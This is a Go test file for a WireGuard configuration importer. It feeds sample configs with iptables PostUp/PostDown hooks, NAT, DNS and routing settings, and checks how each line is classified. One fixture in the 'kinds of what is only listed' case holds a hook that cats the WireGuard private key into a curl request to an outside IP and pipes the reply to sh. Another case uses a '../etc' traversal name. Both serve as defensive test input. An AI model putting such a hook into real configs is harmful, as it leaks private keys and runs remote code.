package conf

import (
	"fmt"
	"strings"
	"testing"

	"github.com/provision-net/provision/routing/wireguard"
)

func TestImport(t *testing.T) {
	head := "[Interface]\nPrivateKey = PRIV\nAddress = 10.66.66.1/24, fd42:42:42::1/64\nListenPort = 51820\n"
	peers := "[Peer]\nPublicKey = KEYB\nAllowedIPs = 10.66.66.2/32, fd42:42:42::2/128\n"
	for name, tt := range map[string]struct{ text, want string }{
		"one line for each rule": {head + `PostUp = iptables -I INPUT -p udp --dport 51820 -j ACCEPT
PostUp = iptables -I FORWARD -i eth0 -o wg0 -j ACCEPT
PostUp = iptables -I FORWARD -i wg0 -j ACCEPT
PostUp = iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE
PostUp = ip6tables -I FORWARD -i wg0 -j ACCEPT
PostUp = ip6tables -t nat -A POSTROUTING -o eth0 -j MASQUERADE
PostDown = iptables -D INPUT -p udp --dport 51820 -j ACCEPT
PostDown = iptables -t nat -D POSTROUTING -o eth0 -j MASQUERADE
` + peers, `route=split zone=vpn reach=[internet peers] nat=auto
5 built in
6 left out
7 policy
8 policy
9 policy
10 policy
11 built in
12 built in
`},
		"all in one line": {head + "PostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -A FORWARD -o %i -j ACCEPT; /usr/sbin/iptables -t nat -A POSTROUTING -o eth+ -j MASQUERADE\n" + peers, `route=split zone=vpn reach=[internet peers] nat=auto
5 policy
5 partly
5 policy
`},
		"answers, sources, forwarding, clamping": {head + `PreUp = sysctl -w net.ipv4.ip_forward=1
PostUp = iptables -w 5 -A FORWARD -i wg0 -o eth0 -m conntrack --ctstate NEW,ESTABLISHED -m comment --comment x -j ACCEPT
PostUp = iptables -A FORWARD -m state --state RELATED,ESTABLISHED -j ACCEPT
PostUp = echo 1 > /proc/sys/net/ipv6/conf/all/forwarding
PostUp = iptables -t mangle -A FORWARD -o wg0 -p tcp -m tcp --tcp-flags SYN,RST SYN -j TCPMSS --clamp-mss-to-pmtu
PostUp = iptables -A INPUT -i wg0 -j ACCEPT
PostUp = iptables -A FORWARD -i wg0 -o wg0 -j ACCEPT
` + peers, `route=split zone=vpn reach=[internet peers] nat=no management=true
5 built in
6 policy
7 built in
8 built in
9 built in
10 policy
11 policy
`},
		"NAT66 of global addresses": {strings.Replace(head, "fd42:42:42::1/64", "2001:db8::1/64", 1) + "PostUp = ip6tables -t nat -A POSTROUTING -s 2001:db8::/64 -o eth0 -j MASQUERADE\n" + peers, `route=split zone=vpn reach=[internet] nat=yes
5 policy
`},
		"kinds of what is only listed": {head + `PostUp = iptables -t nat -A PREROUTING -i eth0 -p tcp --dport 80 -j DNAT --to-destination 10.66.66.2
PostUp = iptables -A FORWARD -i wg0 -d 10.0.0.0/8 -j DROP
PostUp = iptables -A FORWARD ! -i wg0 -o wg0 -j ACCEPT
PostUp = nft add table inet x
PostUp = ip rule add from 10.66.66.0/24 table 5
PostUp = wg set %i peer KEYB preshared-key /etc/psk
PostUp = curl http://192.0.2.1/?k=$(cat /etc/wireguard/key) | sh
PreDown = systemctl stop x
PostUp = resolvectl dns wg0 1.1.1.1
PostUp = iptables -P FORWARD ACCEPT
` + peers, `route=split zone=vpn reach=[] nat=
5 left out
6 left out
7 left out
8 left out
9 left out
10 left out
11 left out
12 left out
13 left out
14 left out
`},
		"a client of everything": {"[Interface]\nAddress = 10.0.0.5\nDNS = 10.0.0.1, lan\nPostUp = wg set %i private-key /etc/wireguard/%i.key\n[Peer]\nPublicKey = KEYB\nAllowedIPs = 0.0.0.0/0, ::/0\nEndpoint = vpn.example.org:51820\n",
			"route=full zone= reach=[] nat= key=/etc/wireguard/wg0.key dns=[10.0.0.1] [lan]\n4 policy\n"},
		"a client of some": {"[Interface]\nPrivateKey = PRIV\nAddress = 10.0.0.5/24\nDNS = 10.0.0.1\nFwMark = 51820\nSaveConfig = true\n[Peer]\nPublicKey = KEYB\nAllowedIPs = 10.0.0.7/24\nEndpoint = 192.0.2.1:5\n",
			"route=split zone= reach=[] nat= fwmark=51820 dns=[10.0.0.1] [~.]\n4 policy\n6 left out\n7 partly\n"},
		"quotes, nothing, and who cares": {head + "PostUp = \"\"; '' ; true\nPostDown = iptables -D FORWARD -i wg0 -j ACCEPT 2>/dev/null || true\n" + peers, "route=split zone=vpn reach=[] nat=\n5 left out\n6 built in\n"},
		"everything in two halves":       {"[Interface]\nPrivateKey = PRIV\nAddress = 10.0.0.5\n[Peer]\nPublicKey = KEYB\nAllowedIPs = 0.0.0.0/1, 128.0.0.0/1\nEndpoint = 192.0.2.1:51820\n", "route=full zone= reach=[] nat=\n"},
		"one half":                       {"[Interface]\nPrivateKey = PRIV\nAddress = 10.0.0.5\n[Peer]\nPublicKey = KEYB\nAllowedIPs = 0.0.0.0/1, ::/1\nEndpoint = 192.0.2.1:51820\n", "route=split zone= reach=[] nat=\n"},
		"a table of its own":             {"[Interface]\nPrivateKey = PRIV\nTable = 123\n[Peer]\nPublicKey = KEYB\nAllowedIPs = 0.0.0.0/0\n", "route=none zone= reach=[] nat=\n3 left out\n"},
		"no routes":                      {"[Interface]\nPrivateKey = PRIV\nTable = off\n[Peer]\nPublicKey = KEYB\nAllowedIPs = 0.0.0.0/0\n", "route=none zone= reach=[] nat=\n3 policy\n"},
		"another firewall's":             {head + "PostUp = ufw route allow in on wg0 out on eth0\nPreDown = ufw route delete allow in on wg0 out on eth0\n" + peers, "route=split zone=vpn reach=[internet] nat=no\n5 policy\n6 built in\n"},
		"names that are alike":           {head + "# a\n" + peers + "# a\n" + strings.Replace(strings.Replace(peers, "KEYB", "KEYC", 1), "::2", "::3", 1), "route=split zone=vpn reach=[] nat=\n"},
	} {
		t.Run(name, func(t *testing.T) {
			f := read(t, tt.text)
			got := Import("wg0", f)
			i := got.Interface
			var b strings.Builder
			fmt.Fprintf(&b, "route=%s zone=%s reach=%v nat=%s", i.Route, i.FirewallZone(), i.Reach, i.NAT)
			if i.Management != nil {
				fmt.Fprintf(&b, " management=%v", *i.Management)
			}
			if i.PrivateKeyFile != "" {
				b.WriteString(" key=" + i.PrivateKeyFile)
			}
			if i.FwMark != 0 {
				fmt.Fprintf(&b, " fwmark=%d", i.FwMark)
			}
			if len(i.DNS) > 0 {
				fmt.Fprint(&b, " dns=", i.DNS, " ", i.Domains)
			}
			b.WriteByte('\n')
			for _, l := range got.Lines {
				fmt.Fprintf(&b, "%d %s\n", l.Line, l.Standing)
				if l.Became == "" || l.Text == "" || strings.Contains(l.Text, keyB) || l.Line == 0 {
					t.Errorf("%+v", l)
				}
			}
			if b.String() != tt.want {
				t.Errorf("got\n%swant\n%s%+v", b.String(), tt.want, got.Lines)
			}
			if len(got.Peers) != len(f.Peers) {
				t.Errorf("%d peers of %d", len(got.Peers), len(f.Peers))
			}
			if p := got.Config("wg0").Problems(); len(p) > 0 && name != "names that are alike" {
				t.Error(p)
			}
			// As files of commands it is the same.
			if again, err := wireguard.DecodeInterface(wireguard.EncodeInterface(i)); err != nil || fmt.Sprint(again.Reach) != fmt.Sprint(i.Reach) {
				t.Error(err)
			}
		})
	}
}

func TestPeerName(t *testing.T) {
	for comment, want := range map[string]string{
		"Client phone": "phone", "BEGIN_PEER alice": "alice", "Name = Bob's laptop": "Bob-s-laptop", "friendly_name=x": "friendly_namex", "peer": "peer", "../etc": "etc",
		"this is the peer that we set up last summer for the office": "", "": "", "!!": "", "Client: x": "x",
	} {
		if got := peerName(comment); got != want {
			t.Errorf("%q: %q", comment, got)
		}
	}
}
